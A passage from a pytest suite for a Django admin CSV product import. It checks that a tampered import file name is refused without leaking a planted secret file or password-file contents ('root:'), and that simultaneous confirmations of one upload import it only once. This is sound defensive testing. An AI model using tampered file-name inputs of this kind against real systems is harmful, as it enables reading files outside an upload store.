        response = admin_client.post(PROCESS, fields | {"import_file_name": name}, follow=True)
        page = response.content.decode()

        assert response.redirect_chain[-1][0] == IMPORT
        assert REFUSED in page
        assert "TOP-SECRET-LINE" not in page and "root:" not in page
        assert counts() == before
        assert not Product.objects.filter(sku__in=["MINE-1", "PLANTED-1"]).exists()
        assert planted.exists() == (name == planted.name)  # not read, not removed either
    finally:
        planted.unlink(missing_ok=True)
    mine = admin_client.post(PROCESS, fields, follow=True)
    assert "Imported mine.csv" in mine.content.decode()


@pytest.mark.django_db(transaction=True)
def test_confirmations_of_one_ticket_sent_at_once_import_it_once(tree, admin_client, monkeypatch):
    """The same confirmation posted by several requests of the uploader's session at the
    same moment (a double click, a retrying proxy): one imports the file, the others are
    refused, and the file's rows are written once."""
    fields = _previewed(admin_client, csv_bytes([row(sku="ONCE-1", on_hand="4")]), "once.csv")
    # A slow disk: a stored upload's bytes come 0.3 s after it was opened, long enough for
    # every request to open the file while the first one still reads it. (A fast disk
    # hides the race that taking the upload by reading it, then removing it, lost: each
    # request that opened the file before the first removed it imported it again.)
    read_bytes = Path.read_bytes

    def slow_read_bytes(path: Path) -> bytes:
        if path.parent.name != "pms-admin-imports":
            return read_bytes(path)
        with path.open("rb") as stored:
            time.sleep(0.3)
            return stored.read()

    monkeypatch.setattr(Path, "read_bytes", slow_read_bytes)
    cookies = {name: morsel.value for name, morsel in admin_client.cookies.items()}
    senders = 8
    start = threading.Barrier(senders)
    pages: list[tuple[str, str]] = []
    failures: list[BaseException] = []

    def confirm() -> None:
        same_session = Client()  # a cookie jar of its own, so each keeps its own messages
        same_session.cookies.load(cookies)  # the uploader's session cookie
        try:
            start.wait(timeout=30)
            response = same_session.post(PROCESS, fields, follow=True)
            pages.append((response.redirect_chain[-1][0], response.content.decode()))
        except BaseException as exc:  # reported below, with the thread's own error
            failures.append(exc)
        finally:
            connections.close_all()

    threads = [threading.Thread(target=confirm) for _ in range(senders)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join(timeout=120)

    assert not failures, failures
    assert len(pages) == senders
    imported = [page for target, page in pages if target == "/admin/catalog/product/"]
    refused = [page for target, page in pages if target == IMPORT]
    assert len(imported) == 1, [target for target, _ in pages]
    assert "Imported once.csv, 1 row: 1 new" in imported[0]
    assert len(refused) == senders - 1 and all(REFUSED in page for page in refused)
    product = Product.objects.select_related("stock").get(sku="ONCE-1")
    assert product.stock.on_hand == 4
    assert AuditLog.objects.filter(action="product.imported").count() == 1
    assert InventoryMovement.objects.filter(reason="import once.csv").count() == 1
